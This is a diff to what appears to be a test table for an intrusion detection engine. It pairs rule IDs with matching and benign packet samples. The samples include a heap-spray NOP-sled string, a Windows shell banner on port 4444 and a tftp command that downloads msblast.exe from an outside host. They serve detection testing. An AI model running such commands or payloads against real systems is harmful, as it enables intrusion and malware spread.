@@ -37,4 +37,5 @@ TABLE = [
     (1410, lone('c = unescape("%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090")'), lone('c = unescape("%u3042%u3044")')),
     (1411, lone("Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n", dport=4444), lone("Microsoft Windows and (c) the rest", dport=4444)),
     (1412, lone("tftp -i 198.51.100.7 GET msblast.exe\n", dport=4444), lone("tftp -i server\n", dport=4444)),
+    (1413, lone(b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: 17277\r\n\r\n\x3f\x5f\3\0" + b"\0" * 40, sport=80, dport=1043), lone(b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: 40\r\n\r\n" + b"\0" * 40, sport=80, dport=1044)),
 ]
